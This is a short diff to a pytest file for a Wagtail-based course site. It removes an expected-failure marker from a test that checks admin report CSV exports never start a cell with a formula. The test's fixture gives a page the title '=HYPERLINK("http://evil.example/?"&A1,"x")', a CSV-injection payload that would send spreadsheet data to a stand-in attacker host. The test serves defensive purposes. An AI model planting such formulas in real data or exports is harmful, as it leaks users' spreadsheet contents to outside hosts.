@@ -43,11 +43,6 @@ def test_a_grader_of_a_course_grades_its_translation_s_paper_as_they_see_it(clie
     assert client.get(reverse("exams:staff_grade_item", args=[essay.pk])).status_code == 200
 
 
-@pytest.mark.xfail(
-    strict=True,
-    reason="review: Wagtail's own admin report CSV exports (e.g. Aging pages) bypass cms.spreadsheets: "
-    "an editor's page title '=HYPERLINK(...)' is written as a live formula",
-)
 def test_the_admin_s_report_csv_never_starts_a_cell_with_a_formula(client):
     catalogue = cms_factories.catalogue_page(cms_factories.home_page())
     cms_factories.course_page(catalogue, title='=HYPERLINK("http://evil.example/?"&A1,"x")')
